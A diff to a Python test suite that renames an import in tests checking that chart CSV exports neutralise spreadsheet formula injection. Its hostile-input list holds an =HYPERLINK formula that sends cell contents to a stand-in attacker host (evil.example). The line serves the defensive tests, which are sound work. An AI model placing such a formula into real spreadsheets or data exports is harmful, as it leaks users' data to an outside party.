@@ -17,7 +17,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from newinfra.cli.common import print_table
-from newinfra.present import theme
+from newinfra.present import chart_output
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -63,16 +63,16 @@ def _check_inert(back: pd.DataFrame) -> None:
 
 def test_chart_data_csv_is_inert():
     # Was: the chart's CSV kept =HYPERLINK(...) as a formula.
-    fig = theme.new_figure(4, 3)
+    fig = chart_output.new_figure(4, 3)
     fig.plotted = _frame()
-    _check_inert(_read(theme.plotted_csv(fig)))
+    _check_inert(_read(chart_output.plotted_csv(fig)))
 
 
 def test_saved_chart_csv_is_inert(tmp_path):
-    fig = theme.new_figure(4, 3)
+    fig = chart_output.new_figure(4, 3)
     fig.subplots().plot([1, 2], [1, 2])
     fig.plotted = _frame()
-    theme.save(fig, tmp_path / "fig01.png")
+    chart_output.save(fig, tmp_path / "fig01.png")
     _check_inert(_read((tmp_path / "fig01.csv").read_text(encoding="utf-8")))
 
 
@@ -96,9 +96,9 @@ def test_a_carriage_return_inside_text_starts_no_row(capsys):
 
 @given(st.lists(st.text(max_size=12), min_size=1, max_size=8))
 def test_any_text_is_inert_and_recoverable(texts):
-    fig = theme.new_figure(2, 2)
+    fig = chart_output.new_figure(2, 2)
     fig.plotted = pd.DataFrame({"text": texts})
-    header, *rows = csv.reader(io.StringIO(theme.plotted_csv(fig), newline=""))
+    header, *rows = csv.reader(io.StringIO(chart_output.plotted_csv(fig), newline=""))
     back = [row[0] for row in rows]
     for original, written in zip(texts, back, strict=True):
         if len(written) > 1:
